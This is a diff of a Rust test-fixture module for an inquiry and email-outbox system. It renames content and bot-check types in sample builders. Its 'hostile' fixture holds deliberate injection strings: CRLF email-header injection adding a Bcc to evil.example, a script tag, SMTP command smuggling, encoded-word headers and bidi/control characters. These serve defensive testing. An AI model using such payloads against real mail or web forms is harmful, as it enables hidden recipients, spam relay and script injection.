@@ -4,8 +4,8 @@ use chrono::{DateTime, Months, Utc};
 use entity::{
     EmailAddress, RETENTION_YEARS,
     contact::{ContactReason, Program},
-    content,
-    inquiry::{self, BotCheck},
+    inquiry::{self, BotCheckStatus},
+    inquiry_content,
     outbox::{self, MailKind, OutboxState},
 };
 use lettre::message::Mailbox;
@@ -55,14 +55,14 @@ impl Sample {
             policy_digest: vec![1; 32],
             consent_digest: vec![2; 32],
             gdpr_consent_digest: vec![3; 32],
-            bot_check: if self == Self::Unverified { BotCheck::Unverified } else { BotCheck::Verified },
+            bot_check: if self == Self::Unverified { BotCheckStatus::Unverified } else { BotCheckStatus::Verified },
             received_at,
             last_contact_at: received_at,
             expires_at: received_at + Months::new(12 * RETENTION_YEARS),
         }
     }
 
-    pub fn content(self) -> content::Model {
+    pub fn content(self) -> inquiry_content::Model {
         match self {
             Self::Typical | Self::Unverified => typical(),
             Self::Minimal => minimal(),
@@ -112,8 +112,8 @@ fn mailbox(name: &str, address: &str) -> Mailbox {
     Mailbox::new(Some(name.to_owned()), address.parse().expect("a sample's address is well formed"))
 }
 
-fn typical() -> content::Model {
-    content::Model {
+fn typical() -> inquiry_content::Model {
+    inquiry_content::Model {
         inquiry_id: INQUIRY_ID,
         first_name: "Probe".to_owned(),
         last_name: "Muster".to_owned(),
@@ -130,8 +130,8 @@ fn typical() -> content::Model {
     }
 }
 
-fn minimal() -> content::Model {
-    content::Model {
+fn minimal() -> inquiry_content::Model {
+    inquiry_content::Model {
         inquiry_id: INQUIRY_ID,
         first_name: "A".to_owned(),
         last_name: "B".to_owned(),
@@ -144,9 +144,9 @@ fn minimal() -> content::Model {
     }
 }
 
-fn hostile() -> content::Model {
+fn hostile() -> inquiry_content::Model {
     const INJECTION: &str = "\r\nBcc: injected@evil.example\r\n\r\n<script>alert(1)</script>\r\n.\r\nMAIL FROM:<>";
-    content::Model {
+    inquiry_content::Model {
         first_name: format!("First{INJECTION}"),
         last_name: "\u{202E}txen\u{2066} \u{200F}Last\r\rX-Injected: 1\n\t\u{0}\u{7}".to_owned(),
         company: format!("Company\u{2028}\u{85}=?utf-8?q?=0D=0ABcc:_x@evil.example?= \"'&{INJECTION}"),
